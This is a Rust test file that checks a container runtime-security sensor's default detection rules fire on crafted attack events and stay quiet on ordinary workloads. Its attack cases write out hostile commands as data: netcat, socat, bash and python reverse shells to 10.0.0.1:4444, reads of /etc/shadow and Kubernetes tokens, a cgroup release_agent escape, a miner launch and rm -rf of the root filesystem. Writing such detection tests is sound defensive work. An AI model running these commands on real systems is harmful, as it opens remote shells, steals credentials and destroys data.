//! The default rule set: it loads cleanly, every rule that can fire on the
//! events the sensor captures today fires on a crafted attack event (exec
//! cases here, syscall cases in `syscall_rules`), and ordinary workload
//! events (nginx, entrypoints, health checks, host admin shells ...) raise
//! nothing.

use std::collections::BTreeSet;

use kestrel::context::ProcessInfo;
use kestrel::event::Event;
use kestrel::rules::evttypes::Kind;
use kestrel::rules::testing::{HOST_CGROUP, MapContext, T0, exec, exit, fork};
use kestrel::rules::{self, Engine};

pub(crate) const APP: u64 = 100;

pub(crate) fn engine() -> Engine {
    let l = rules::load(&rules::default_sources()).expect("default rules load");
    assert!(l.warnings.is_empty(), "warnings: {:#?}", l.warnings);
    l.engine
}

/// Host: systemd(1) → containerd-shim(10), sshd(11) → bash(12, tty).
/// Container APP: node(20) (parent shim), nginx(21).
pub(crate) fn base_ctx() -> MapContext {
    let mut c = MapContext::new();
    c.add_proc(
        10,
        1,
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        &[],
        HOST_CGROUP,
    );
    c.add_proc(11, 1, "sshd", "/usr/sbin/sshd", &["-D"], HOST_CGROUP);
    c.add_proc(12, 11, "bash", "/bin/bash", &[], HOST_CGROUP)
        .tty = 34816;
    c.add_proc(20, 10, "node", "/usr/local/bin/node", &["server.js"], APP);
    c.add_proc(
        21,
        10,
        "nginx",
        "/usr/sbin/nginx",
        &["-g", "daemon off;"],
        APP,
    );
    c.add_container(APP, "api", "registry.example.com/shop/api:2.3");
    c
}

/// Runs an exec of `argv` (argv[0] first) at `filename` as pid 30 with
/// parent `ppid`, after letting `tweak` adjust the new process's record.
fn run_exec(
    e: &Engine,
    ppid: u32,
    cgroup: u64,
    filename: &str,
    argv: &[&str],
    tweak: impl FnOnce(&mut ProcessInfo),
) -> BTreeSet<String> {
    let mut c = base_ctx();
    let name = filename.rsplit('/').next().unwrap_or(filename);
    let p = c.add_proc(30, ppid, name, filename, &argv[1..], cgroup);
    p.argv0 = argv[0].into();
    tweak(p);
    let ev = exec(30, ppid, filename, argv, cgroup);
    fired(e, &ev, &c)
}

pub(crate) fn fired(e: &Engine, ev: &Event, c: &MapContext) -> BTreeSet<String> {
    let mut out = Vec::new();
    e.evaluate(ev, c, &mut out);
    out.iter()
        .map(|m| e.rule(m.rule).map(|r| r.name.clone()).unwrap_or_default())
        .collect()
}

fn none(_: &mut ProcessInfo) {}

pub(crate) struct Case {
    pub(crate) rule: &'static str,
    pub(crate) fired: BTreeSet<String>,
}

fn attack_cases(e: &Engine) -> Vec<Case> {
    let c = |rule: &'static str, fired: BTreeSet<String>| Case { rule, fired };
    vec![
        c(
            "Terminal shell in container",
            run_exec(e, 20, APP, "/bin/bash", &["bash"], |p| p.tty = 34816),
        ),
        c(
            "Shell spawned by server process",
            run_exec(e, 21, APP, "/bin/sh", &["sh", "-c", "id; uname -a"], none),
        ),
        c(
            "Sensitive file read by command",
            run_exec(e, 20, APP, "/bin/cat", &["cat", "/etc/shadow"], none),
        ),
        c(
            "Sensitive file read by command",
            run_exec(
                e,
                20,
                APP,
                "/bin/cat",
                &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
                none,
            ),
        ),
        c(
            "Private key search",
            run_exec(
                e,
                20,
                APP,
                "/bin/grep",
                &["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"],
                none,
            ),
        ),
        c(
            "Private key search",
            run_exec(
                e,
                12,
                HOST_CGROUP,
                "/usr/bin/find",
                &["find", "/", "-name", "id_rsa"],
                none,
            ),
        ),
        c(
            "Package manager run in a container",
            run_exec(
                e,
                20,
                APP,
                "/usr/bin/apt-get",
                &["apt-get", "install", "-y", "nmap"],
                none,
            ),
        ),
        c(
            "Netcat or socat remote code execution",
            run_exec(
                e,
                20,
                APP,
                "/bin/nc",
                &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"],
                none,
            ),
        ),
        c(
            "Netcat or socat remote code execution",
            run_exec(
                e,
                20,
                APP,
                "/usr/bin/socat",
                &["socat", "exec:bash -li,pty,stderr", "tcp:10.0.0.1:4444"],
                none,
            ),
        ),
        c(
            "Reverse shell command line",
            run_exec(
                e,
                20,
                APP,
                "/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                none,
            ),
        ),
        c(
            "Reverse shell command line",
            run_exec(
                e,
                20,
                APP,
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0)",
                ],
                none,
            ),
        ),
        c(
            "Crypto miner launched",
            run_exec(e, 20, APP, "/tmp/xmrig", &["xmrig"], none),
        ),
        c(
            "Crypto miner launched",
            run_exec(
                e,
                20,
                APP,
                "/tmp/kworker",
                &[
                    "kworker",
                    "-o",
                    "stratum+tcp://pool.example:3333",
                    "-u",
                    "wallet",
                ],
                none,
            ),
        ),
        c(
            "Kernel module tool run in a container",
            run_exec(e, 20, APP, "/sbin/insmod", &["insmod", "/tmp/rk.ko"], none),
        ),
        c(
            "Log files cleared",
            run_exec(
                e,
                12,
                HOST_CGROUP,
                "/usr/bin/shred",
                &["shred", "-u", "/var/log/auth.log"],
                none,
            ),
        ),
        c(
            "Log files cleared",
            run_exec(
                e,
                20,
                APP,
                "/bin/rm",
                &["rm", "-f", "/root/.bash_history"],
                none,
            ),
        ),
        c(
            "Bulk data removal",
            run_exec(
                e,
                20,
                APP,
                "/bin/rm",
                &["rm", "-rf", "--no-preserve-root", "/"],
                none,
            ),
        ),
        c(
            "Bulk data removal",
            run_exec(e, 12, HOST_CGROUP, "/bin/rm", &["rm", "-rf", "/home"], none),
        ),
        c(
            "Drift binary executed from container upper layer",
            run_exec(e, 20, APP, "/tmp/payload", &["payload"], |p| {
                p.exe_upper_layer = true
            }),
        ),
        c(
            "Fileless execution from memfd",
            run_exec(e, 20, APP, "/memfd:x (deleted)", &["x"], |p| {
                p.exe_from_memfd = true
            }),
        ),
        c(
            "Execution from /dev/shm",
            run_exec(e, 20, APP, "/dev/shm/.x/run", &["run"], none),
        ),
        c(
            "Executable changed after container start",
            run_exec(e, 20, APP, "/usr/local/bin/node", &["node", "x.js"], |p| {
                p.exe_ino_ctime_ns = T0 + 5_000_000_000
            }),
        ),
        c(
            "Process running from deleted executable in container",
            run_exec(e, 20, APP, "/tmp/dropper", &["dropper"], |p| {
                p.exe_deleted = true
            }),
        ),
        c(
            "Container escape via cgroup release_agent",
            run_exec(
                e,
                20,
                APP,
                "/bin/sh",
                &["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"],
                none,
            ),
        ),
        c(
            "Namespace change from container",
            run_exec(
                e,
                20,
                APP,
                "/usr/bin/nsenter",
                &["nsenter", "--target", "1", "--mount", "--", "sh"],
                none,
            ),
        ),
        c(
            "Mount in container",
            run_exec(
                e,
                20,
                APP,
                "/bin/mount",
                &["mount", "/dev/sda1", "/mnt"],
                none,
            ),
        ),
        c(
            "Host access from container",
            run_exec(
                e,
                20,
                APP,
                "/usr/bin/curl",
                &[
                    "curl",
                    "--unix-socket",
                    "/var/run/docker.sock",
                    "http://localhost/containers/json",
                ],
                none,
            ),
        ),
        c(
            "Link over sensitive file by command",
            run_exec(
                e,
                20,
                APP,
                "/bin/ln",
                &["ln", "-s", "/etc/shadow", "/tmp/s"],
                none,
            ),
        ),
        c(
            "Kubernetes API contacted from container",
            run_exec(
                e,
                20,
                APP,
                "/usr/bin/curl",
                &[
                    "curl",
                    "-k",
                    "https://kubernetes.default.svc/api/v1/secrets",
                ],
                none,
            ),
        ),
    ]
}

#[test]
fn default_rules_load_without_errors_or_warnings() {
    let e = engine();
    assert!(e.rules().len() >= 30);
    for r in e.rules() {
        assert!(
            r.tags.iter().any(|t| t.starts_with("mitre_")),
            "rule `{}` has no MITRE tactic tag",
            r.name
        );
        assert!(
            r.tags
                .iter()
                .any(|t| t.starts_with('T') && t[1..2].chars().all(|c| c.is_ascii_digit())),
            "rule `{}` has no technique tag",
            r.name
        );
    }
}

#[test]
fn each_default_rule_that_can_fire_fires_on_its_attack() {
    let e = engine();
    let mut cases = attack_cases(&e);
    cases.extend(super::syscall_rules::attack_cases(&e));
    for case in &cases {
        assert!(
            case.fired.contains(case.rule),
            "`{}` did not fire; fired: {:?}",
            case.rule,
            case.fired
        );
    }
    // Every default rule that can fire with today's sensor has a case.
    let covered: BTreeSet<&str> = cases.iter().map(|c| c.rule).collect();
    for (i, r) in e.rules().enumerate() {
        let can_fire_now = Kind::ALL
            .iter()
            .any(|k| e.rules_for(*k).contains(&(i as u32)));
        // Needs proc.stdin/stdout types, which the sensor does not supply yet.
        let waits_for_fields = r.name == "Shell with stdio redirected to a socket";
        if can_fire_now && !waits_for_fields {
            assert!(
                covered.contains(r.name.as_str()),
                "no attack case for `{}`",
                r.name
            );
        }
    }
}

#[test]
fn rendered_alert_of_a_default_rule_has_fields_and_output() {
    let e = engine();
    let mut c = base_ctx();
    c.add_proc(30, 21, "sh", "/bin/sh", &["-c", "id"], APP);
    let ev = exec(30, 21, "/bin/sh", &["sh", "-c", "id"], APP);
    let mut out = Vec::new();
    e.evaluate(&ev, &c, &mut out);
    let alerts: Vec<_> = out.iter().filter_map(|m| e.render(m, &ev, &c)).collect();
    let a = alerts
        .iter()
        .find(|a| a.rule == "Shell spawned by server process")
        .expect("fires");
    assert!(a.output.contains("server=nginx"), "{}", a.output);
    assert!(a.output.contains("cmdline=sh -c id"), "{}", a.output);
    assert!(
        a.output.contains("image=registry.example.com/shop/api"),
        "{}",
        a.output
    );
    assert!(
        a.fields
            .iter()
            .any(|(n, v)| n == "proc.pname" && v.as_deref() == Some("nginx"))
    );
    assert!(a.tags.iter().any(|t| t == "T1059.004"));
}

#[test]
fn ordinary_workloads_raise_no_alerts() {
    let e = engine();
    let quiet: Vec<(&str, BTreeSet<String>)> = vec![
        (
            "nginx starts",
            run_exec(
                &e,
                10,
                APP,
                "/usr/sbin/nginx",
                &["nginx", "-g", "daemon off;"],
                none,
            ),
        ),
        (
            "entrypoint script",
            run_exec(
                &e,
                10,
                APP,
                "/bin/sh",
                &["sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;"],
                none,
            ),
        ),
        (
            "envsubst from entrypoint",
            run_exec(
                &e,
                20,
                APP,
                "/usr/bin/envsubst",
                &["envsubst", "$PORT"],
                none,
            ),
        ),
        (
            "node app",
            run_exec(
                &e,
                10,
                APP,
                "/usr/local/bin/node",
                &["node", "server.js"],
                none,
            ),
        ),
        (
            "npm start",
            run_exec(&e, 10, APP, "/usr/local/bin/npm", &["npm", "start"], none),
        ),
        (
            "health check via exec",
            run_exec(
                &e,
                10,
                APP,
                "/bin/sh",
                &["sh", "-c", "curl -fsS http://localhost:8080/healthz"],
                none,
            ),
        ),
        (
            "kubectl exec without a tty",
            run_exec(&e, 10, APP, "/bin/cat", &["cat", "/tmp/healthy"], none),
        ),
        (
            "app reads its config",
            run_exec(
                &e,
                20,
                APP,
                "/bin/cat",
                &["cat", "/etc/app/config.yaml"],
                none,
            ),
        ),
        (
            "cleanup of build caches",
            run_exec(
                &e,
                20,
                APP,
                "/bin/rm",
                &["rm", "-rf", "/var/lib/apt/lists/*", "/tmp/build"],
                none,
            ),
        ),
        (
            "rm of a temp dir",
            run_exec(&e, 20, APP, "/bin/rm", &["rm", "-rf", "/tmp/x"], none),
        ),
        (
            "python worker",
            run_exec(
                &e,
                10,
                APP,
                "/usr/bin/python3",
                &["python3", "-m", "celery", "worker"],
                none,
            ),
        ),
        (
            "dpkg arch query",
            run_exec(
                &e,
                20,
                APP,
                "/usr/bin/dpkg",
                &["dpkg", "--print-architecture"],
                none,
            ),
        ),
        (
            "interactive shell on the host",
            run_exec(&e, 11, HOST_CGROUP, "/bin/bash", &["bash"], |p| {
                p.tty = 34816
            }),
        ),
        (
            "ls on the host",
            run_exec(&e, 12, HOST_CGROUP, "/bin/ls", &["ls", "-la"], none),
        ),
        (
            "grep on the host",
            run_exec(
                &e,
                12,
                HOST_CGROUP,
                "/bin/grep",
                &["grep", "-r", "TODO", "src"],
                none,
            ),
        ),
        (
            "find on the host",
            run_exec(
                &e,
                12,
                HOST_CGROUP,
                "/usr/bin/find",
                &["find", ".", "-name", "*.rs"],
                none,
            ),
        ),
        (
            "apt on the host",
            run_exec(
                &e,
                12,
                HOST_CGROUP,
                "/usr/bin/apt-get",
                &["apt-get", "update"],
                none,
            ),
        ),
        (
            "modprobe by the kernel",
            run_exec(
                &e,
                2,
                HOST_CGROUP,
                "/sbin/modprobe",
                &["/sbin/modprobe", "-q", "--", "nf_conntrack"],
                none,
            ),
        ),
        (
            "mount listing in a container",
            run_exec(&e, 20, APP, "/bin/mount", &["mount"], none),
        ),
        (
            "ssh login shell",
            run_exec(&e, 11, HOST_CGROUP, "/bin/bash", &["-bash"], |p| {
                p.tty = 34817
            }),
        ),
        (
            "php mail via sendmail",
            run_exec(
                &e,
                21,
                APP,
                "/bin/sh",
                &["sh", "-c", "/usr/sbin/sendmail -t -i"],
                none,
            ),
        ),
    ];
    for (what, fired) in quiet {
        assert!(fired.is_empty(), "{what}: unexpected alerts {fired:?}");
    }
    let c = base_ctx();
    assert!(
        fired(&e, &fork(21, 10, "nginx", 31, APP), &c).is_empty(),
        "nginx fork"
    );
    assert!(
        fired(&e, &exit(21, 10, "nginx", 0, APP), &c).is_empty(),
        "nginx exit"
    );
    assert!(
        fired(&e, &fork(12, 11, "bash", 32, HOST_CGROUP), &c).is_empty(),
        "host bash fork"
    );
}
